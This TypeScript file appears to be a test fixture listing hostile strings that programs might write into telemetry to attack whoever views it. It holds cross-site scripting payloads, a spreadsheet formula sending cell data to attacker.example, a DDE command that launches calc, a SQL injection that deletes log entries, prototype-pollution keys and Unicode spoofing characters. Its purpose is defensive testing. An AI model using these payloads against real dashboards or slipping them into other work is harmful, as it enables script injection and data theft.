/**
 * Strings that programs may write into their telemetry to attack the person who looks at it. A string that a browser
 * runs calls `attacked`, or creates an element with the attribute `data-attacked`.
 */

const CALL = (id: number) => `attacked(${id})`;

export const HOSTILE_STRINGS: readonly string[] = [
  `<img data-attacked src=x onerror=${CALL(1)}>`,
  `<script data-attacked>${CALL(2)}</script>`,
  `"><svg data-attacked onload=${CALL(3)}>`,
  `javascript:${CALL(4)}`,
  `' onmouseover='${CALL(5)}' data-attacked x='`,
  `[click](javascript:${CALL(6)})`,
  `![x](x"data-attacked onerror="${CALL(7)})`,
  `<iframe data-attacked srcdoc="<script>parent.${CALL(8)}</script>"></iframe>`,
  `<a data-attacked href="javascript:${CALL(9)}">open</a>`,
  `data:text/html,<script>opener.${CALL(10)}</script>`,
  `{{constructor.constructor('${CALL(11)}')()}}`,
  '${__data.fields[0]}${__value.raw}${__user.login}',
  '$__from [[__to]] ${__interval:csv}',
  'invoice\u202egnp.exe',
  '\u2066hidden\u2069\u200f\u061c',
  'red \u001b[31m bell \u0007 null \u0000 end',
  'two\r\nlines\u2028three\u2029four',
  `e${'\u0301'.repeat(200)}`,
  '=HYPERLINK("http://attacker.example/?"&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'; DELETE FROM log_entries --",
  '__proto__',
  'constructor',
  '  ',
  '//attacker.example/x',
  `</title><style data-attacked>*{display:none}</style>`,
  `<math><mtext><table><mglyph><style><!--</style><img data-attacked title="--&gt;&lt;img src=x onerror=${CALL(28)}&gt;">`,
  `","queries":[{"refId":"A","expr":"${CALL(29)}"}],"x":"%22%7D&orgId=2#`,
  '\u{1f469}\u200d\u{1f680}\ufffd\ufeff\ud7ff',
  `<form data-attacked action="javascript:${CALL(30)}"><button>sign in</button></form>`,
];
